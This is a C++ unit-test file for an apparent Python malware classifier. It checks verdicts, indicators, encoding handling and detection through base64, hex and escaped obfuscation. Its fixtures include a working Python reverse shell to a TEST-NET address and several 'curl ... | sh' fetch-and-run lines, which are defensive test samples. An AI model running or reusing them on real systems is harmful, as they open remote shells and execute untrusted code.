#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "digest/digest.h"
#include "pyverdict.h"
#include "unwrap/codecs.h"

namespace pyverdict {
namespace {

using report::Report;
using verdict::Label;

// A stand-in for what is found: a shell for whoever listens on a TEST-NET address.
const std::string kReverseShell =
    "import socket, os, pty\n"
    "s = socket.socket()\n"
    "s.connect(('192.0.2.7', 4444))\n"
    "os.dup2(s.fileno(), 0)\n"
    "os.dup2(s.fileno(), 1)\n"
    "os.dup2(s.fileno(), 2)\n"
    "pty.spawn('/bin/sh')\n";

const std::string kAdministration =
    "\"\"\"Counts the lines of files.\"\"\"\n"
    "import argparse\n"
    "import pathlib\n"
    "\n"
    "def main():\n"
    "    parser = argparse.ArgumentParser(description='count')\n"
    "    parser.add_argument('paths', nargs='+')\n"
    "    for path in parser.parse_args().paths:\n"
    "        print(len(pathlib.Path(path).read_text().splitlines()))\n"
    "\n"
    "if __name__ == '__main__':\n"
    "    main()\n";

Report report_of(std::string_view input, const Options& options = {}) {
  Analysis analysis = analyze(input, options);
  EXPECT_EQ(analysis.items.size(), 1u);
  return analysis.items.front().report;
}

bool has(const diagnostic::Diagnostics& diagnostics, diagnostic::Code code) {
  return std::any_of(diagnostics.begin(), diagnostics.end(), [&](const auto& d) { return d.code == code; });
}

TEST(Analyze, AReverseShellIsMalicious) {
  const Report report = report_of(kReverseShell);
  EXPECT_EQ(report.verdict.label, Label::Malicious) << report.verdict.score << " " << report.verdict.summary;
  EXPECT_EQ(report.verdict.basis, verdict::Basis::Evidence);
  EXPECT_FALSE(report.verdict.reasons.empty());
  EXPECT_FALSE(report.techniques.empty());
  EXPECT_NE(report.verdict.summary.find("192.0.2.7 port 4444"), std::string::npos) << report.verdict.summary;
  const auto address = std::find_if(report.indicators.begin(), report.indicators.end(),
                                    [](const auto& i) { return i.value == "192.0.2.7"; });
  ASSERT_NE(address, report.indicators.end());
  EXPECT_EQ(address->role, indicator::Role::C2);
  EXPECT_EQ(address->span.line, 3u);
  EXPECT_EQ(address->defanged, "192[.]0[.]2[.]7");
}

TEST(Analyze, AnOrdinaryToolIsBenignAndSaysWhy) {
  const Report report = report_of(kAdministration);
  EXPECT_EQ(report.verdict.label, Label::Benign) << report.verdict.summary;
  EXPECT_LT(report.verdict.score, 0.05);
  EXPECT_FALSE(report.verdict.counter_evidence.empty());
}

TEST(Analyze, ADownloadThatIsCheckedIsNotYetAnAttack) {
  const std::string fetch =
      "import hashlib, os, subprocess, urllib.request\n"
      "data = urllib.request.urlopen('https://h.example.invalid/tool').read()\n";
  const std::string check = "if hashlib.sha256(data).hexdigest() != '" + std::string(64, 'a') +
                            "':\n    raise SystemExit('mismatch')\n";
  const std::string run =
      "with open('/tmp/tool', 'wb') as file:\n    file.write(data)\n"
      "os.chmod('/tmp/tool', 0o700)\nsubprocess.run(['/tmp/tool'])\n";
  EXPECT_GE(report_of(fetch + run).verdict.score, verdict::kSuspiciousScore);
  const Report checked = report_of(fetch + check + run);
  EXPECT_EQ(checked.verdict.label, Label::Benign) << checked.verdict.score;
  EXPECT_FALSE(checked.evidence.empty()) << "it is still said what the script does";
}

TEST(Analyze, EvidencePointsToItsBytes) {
  const Report report = report_of("# été\n" + kReverseShell);
  ASSERT_FALSE(report.evidence.empty());
  for (const report::Evidence& evidence : report.evidence) {
    const std::string& text = *report.layers[evidence.layer].text;
    ASSERT_LT(evidence.span.start, evidence.span.end);
    ASSERT_LE(evidence.span.end, text.size());
    EXPECT_NE(text.find(evidence.snippet.substr(0, 20)), std::string::npos) << evidence.snippet;
    for (const std::string& id : evidence.techniques) {
      EXPECT_TRUE(std::any_of(report.techniques.begin(), report.techniques.end(), [&](const auto& t) {
        return t.id == id;
      })) << id;
    }
  }
}

TEST(Analyze, CommentsAndDocstringsAreNoEvidence) {
  const Report report = report_of("\"\"\"" + kReverseShell +
                                  "\"\"\"\n# os.system('curl http://h.example.invalid | sh')\nx = 1\n");
  EXPECT_TRUE(report.evidence.empty());
  EXPECT_TRUE(report.indicators.empty());
  EXPECT_EQ(report.verdict.label, Label::Benign);
}

TEST(Analyze, HashesAreThoseOfTheBytesAsGiven) {
  const Report report = report_of("\xef\xbb\xbfprint('x')\n");
  EXPECT_EQ(report.input.script.size, 14u);
  EXPECT_EQ(report.input.script.sha256, "8b29836731ddfffb221f42b63fcf527b0bad7bfdf6bf2643296d85d8e646e019");
  EXPECT_EQ(report.input.script.encoding, "utf-8-sig");
}

TEST(Analyze, EncodingsAreSeenThrough) {
  std::string wide = "\xff\xfe";
  for (const char c : kReverseShell) {
    wide += c;
    wide += '\0';
  }
  const Report report = report_of(wide);
  EXPECT_EQ(report.input.script.encoding, "utf-16-le");
  EXPECT_EQ(report.verdict.label, Label::Malicious);
}

TEST(Analyze, ReadsAFinding) {
  const std::string finding =
      R"({"finding": {"category": "Execution: Malicious Python executed",
          "name": "organizations/1/sources/2/locations/global/findings/abc",
          "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["COMMAND_AND_SCRIPTING_INTERPRETER"],
                          "additionalTechniques": ["INGRESS_TOOL_TRANSFER"]},
          "processes": [{"binary": {"path": "/usr/bin/python3"}, "args": ["python3", "/tmp/a.py"],
            "script": {"path": "/tmp/a.py", "contents": "import os\nos.system('curl http://h.example.invalid/x | sh')\n"}}]},
          "resource": {"name": "//run.googleapis.com/projects/p/locations/l/services/s"}})";
  const Report report = report_of(finding);
  EXPECT_EQ(report.input.kind, report::InputKind::Finding);
  EXPECT_EQ(report.input.script.path, "/tmp/a.py");
  ASSERT_TRUE(report.finding.has_value());
  EXPECT_EQ(report.finding->resource.cloud_run.name, "s");
  EXPECT_TRUE(std::any_of(report.techniques.begin(), report.techniques.end(), [](const auto& t) {
    return t.id == "T1059" && t.from == report::TechniqueFrom::Finding;
  }));
  EXPECT_GE(report.verdict.score, verdict::kSuspiciousScore);
}

TEST(Analyze, ReadsACommandLine) {
  const Report report =
      report_of("python3 -c \"import os; os.system('curl http://h.example.invalid/x | sh')\"");
  EXPECT_EQ(report.input.kind, report::InputKind::Command);
  EXPECT_GE(report.verdict.score, verdict::kSuspiciousScore);
}

TEST(Analyze, ReadsAScriptThatWasEscaped) {
  std::string escaped;
  for (const char c : kReverseShell) {
    if (c == '\n') {
      escaped += "\\n";
    } else if (c == '\'') {
      escaped += "\\\"";
    } else {
      escaped += c;
    }
  }
  for (const std::string& text : {escaped, "\"" + escaped + "\"", escaped + "\n"}) {
    const Report report = report_of(text);
    EXPECT_EQ(report.verdict.label, Label::Malicious) << text;
    EXPECT_TRUE(report.input.script.unescaped) << text;
    ASSERT_FALSE(report.diagnostics.empty()) << text;
    EXPECT_EQ(report.diagnostics.front().code, diagnostic::Code::ContentsUnescaped) << text;
  }
  // Who says that it is a script, as one of many, means no less.
  for (const std::string& text : {escaped, unwrap::codecs::to_base64(kReverseShell),
                                  "python3 - <<'EOF'\n" + std::string(kReverseShell) + "\nEOF\n"}) {
    Options options;
    options.as = As::Script;
    EXPECT_EQ(analyze(text, options).items.front().report.verdict.label, Label::Malicious) << text;
  }
  // Backslashes in strings are Python's own.
  for (const std::string text : {"print('a\\nb', \"c\\td\")", "open(r'C:\\new').read()"}) {
    EXPECT_FALSE(report_of(text).input.script.unescaped) << text;
  }
}

TEST(Analyze, ReadsAScriptThatIsEncoded) {
  const std::string once = unwrap::codecs::to_base64(kReverseShell);
  std::string lines = once;
  for (std::size_t at = 60; at < lines.size(); at += 61) lines.insert(at, 1, '\n');
  for (const std::string& text : {once, lines, once + "\n", unwrap::codecs::to_base64(once),
                                  unwrap::codecs::to_hex(kReverseShell), unwrap::codecs::to_hex(once)}) {
    const Report report = report_of(text);
    EXPECT_EQ(report.verdict.label, Label::Malicious) << text;
    EXPECT_EQ(report.input.script.sha256, digest::sha256(kReverseShell)) << text;
    EXPECT_TRUE(has(report.diagnostics, diagnostic::Code::ContentsDecoded)) << text;
  }
  const Report packed =
      report_of("eNrLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3tDTSM9Az0jPXr1CoUSjOUNfkAgAPPBDx");
  EXPECT_TRUE(has(packed.diagnostics, diagnostic::Code::ContentsDecoded));
  EXPECT_FALSE(packed.verdict.reasons.empty());
  // Words, and what decodes to no script.
  for (const std::string& text : {std::string("a_name_that_is_longer_than_most_of_them"),
                                  unwrap::codecs::to_base64("Only a sentence, no code."),
                                  std::string("0123456789012345678901234567890123456789"),
                                  unwrap::codecs::to_base64(kReverseShell) + "()"}) {
    EXPECT_FALSE(has(report_of(text).diagnostics, diagnostic::Code::ContentsDecoded)) << text;
  }
}

TEST(Analyze, ReadsAnEncodedScriptThatNothingWasSeenToRun) {
  std::string long_script = kReverseShell;
  for (int i = 0; i < 40; ++i) long_script += "print('step " + std::to_string(i) + "')\n";
  const std::string encoded = unwrap::codecs::to_base64(long_script);
  const std::string half = encoded.substr(0, encoded.size() / 2);
  // What runs it is cut off, with the end of the text or not.
  for (const std::string& text :
       {"import base64\npayload = \"" + encoded + "\"\nprint('starting')\n",
        "import base64\npayload = \"" + half,
        "payload = (\"" + encoded.substr(0, 400) + "\"\n    \"" + encoded.substr(400) + "\")\n",
        "payload = b'" + unwrap::codecs::to_hex(long_script) + "'\n"}) {
    const Report report = report_of(text);
    ASSERT_GE(report.layers.size(), 2u) << text;
    EXPECT_EQ(report.layers[1].via.front(), "unused") << text;
    EXPECT_EQ(report.verdict.label, Label::Malicious) << text;
    // That it is run is not claimed.
    EXPECT_NE(report.verdict.summary.find("that nothing here was seen to run"), std::string::npos)
        << report.verdict.summary;
    EXPECT_EQ(
        std::count(report.verdict.reasons.begin(), report.verdict.reasons.end(), "decoded-code-executed"), 0)
        << text;
  }
  // What is run is a layer already, also when it was put together from pieces.
  for (const std::string& text : {"import base64\nexec(base64.b64decode('" + encoded + "'))\n",
                                  "import base64\na = '" + encoded.substr(0, 400) + "'\nb = '" +
                                      encoded.substr(400) + "'\nexec(base64.b64decode(a + b))\n",
                                  // So is what another layer runs.
                                  "def run():\n    kept = b'" + encoded + "'\n    exec('import base64\\n" +
                                      "exec(base64.b64decode(kept))')\nrun()\n",
                                  // Words, data and digests.
                                  std::string("a = 'array must not contain infs or NaNs and every one of its "
                                              "elements has to be finite as well'\n"),
                                  "a = '" + unwrap::codecs::to_base64(std::string(300, '\x81')) + "'\n",
                                  "a = '" + std::string(128, '7') + "'\n"}) {
    for (const report::Layer& layer : report_of(text).layers)
      EXPECT_TRUE(layer.via.empty() || layer.via.front() != "unused") << text;
  }
}

TEST(Analyze, BoundsTheScriptsInTexts) {
  std::string text;
  for (int i = 0; i < 200; ++i)
    text += "a" + std::to_string(i) + " = '" +
            unwrap::codecs::to_base64("print('a line of text, the number of which is " + std::to_string(i) +
                                      "')\nrun()\n") +
            "'\n";
  const Report report = report_of(text);
  EXPECT_LE(report.layers.size(), 70u);
  EXPECT_TRUE(has(report.diagnostics, diagnostic::Code::TooManyLayers));
}

TEST(Analyze, SaysWhatIsNoPython) {
  const std::string texts[] = {
      "Dear team,\n\nplease find attached the minutes of last week's meeting. We agreed to "
      "wait.\n\nRegards,\nBob\n",
      "#!/bin/bash\nset -euo pipefail\napt-get update\napt-get install -y nginx\nsystemctl restart nginx\n",
      "const http = require('http');\nhttp.createServer((req, res) => { res.end('hello'); }).listen(8080);\n",
      "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: web\n      image: nginx:1.25\n",
      "FROM python:3.12-slim\nRUN pip install flask\nCOPY app.py /app/app.py\n",
      "<!doctype html><html><body><p>Hello there</p></body></html>\n",
      "2026-03-04T05:06:07Z INFO server started on port 8080\n2026-03-04T05:06:09Z WARN slow query took 4.2 "
      "s\n",
  };
  for (const std::string& text : texts) {
    const verdict::Verdict verdict = report_of(text).verdict;
    EXPECT_EQ(verdict.label, Label::Inconclusive) << text;
    EXPECT_TRUE(verdict.summary.starts_with("This does not read as Python")) << verdict.summary;
    EXPECT_TRUE(verdict.undecided) << text;
  }
  // A script that is broken in places is still read.
  EXPECT_EQ(report_of("<!doctype html>\n" + kReverseShell).verdict.label, Label::Malicious);
  EXPECT_EQ(report_of("def f(x):\n    return x +\n\nfor i in range(3):\n    print(f(i), 'and more of it')\n")
                .verdict.label,
            Label::Benign);
  EXPECT_EQ(report_of("").verdict.summary, "There is no code to read.");
}

TEST(Analyze, SaysWhenThereIsTooLittle) {
  EXPECT_EQ(report_of("").verdict.label, Label::Inconclusive);
  EXPECT_EQ(report_of("import os\nx = [1, 2").verdict.label, Label::Inconclusive);
  const Report binary = report_of(std::string("\x7f"
                                              "ELF\x02\x01\x01\0\0\0\0\0\0\0",
                                              14) +
                                  std::string(200, '\0'));
  EXPECT_EQ(binary.verdict.label, Label::Inconclusive);
  EXPECT_TRUE(has(binary.diagnostics, diagnostic::Code::BinaryInput));
}

TEST(Analyze, SaysWhatItLeftOut) {
  Options options;
  options.limits.max_input_bytes = 20;
  EXPECT_TRUE(has(report_of(kReverseShell, options).diagnostics, diagnostic::Code::InputTooLarge));
  options = {};
  options.limits.max_evidence = 1;
  EXPECT_TRUE(
      has(report_of(kReverseShell + kReverseShell, options).diagnostics, diagnostic::Code::TooMuchEvidence));
}

TEST(Analyze, AForcedFindingThatIsNoneIsADiagnostic) {
  Options options;
  options.as = As::Finding;
  const Report report = report_of("{\"a\": 1}", options);
  EXPECT_TRUE(has(report.diagnostics, diagnostic::Code::NotAFinding));
  EXPECT_EQ(report.verdict.label, Label::Inconclusive);
}

TEST(Analyze, DataThatIsNoFindingIsNotCalledBenign) {
  for (const char* data : {"{\"nothing\": 1}", "[1, 2]"}) {
    const Report report = report_of(data);
    EXPECT_TRUE(has(report.diagnostics, diagnostic::Code::NotAFinding)) << data;
    EXPECT_EQ(report.verdict.label, Label::Inconclusive) << data;
  }
  EXPECT_EQ(report_of("x = {'a': 1}\n").verdict.label, Label::Benign);
}

TEST(Analyze, IsDeterministic) {
  EXPECT_EQ(report::to_json(report_of(kReverseShell)), report::to_json(report_of(kReverseShell)));
}

TEST(Features, FitTheirNames) {
  EXPECT_TRUE(analyze(kReverseShell).items.front().features.values().empty());
  const Analysis analysis = analyze(kReverseShell, {.features = true});
  EXPECT_EQ(analysis.items.front().features.values().size(),
            verdict::feature_names().size() + verdict::kHashedFeatures);
}

}  // namespace
}  // namespace pyverdict
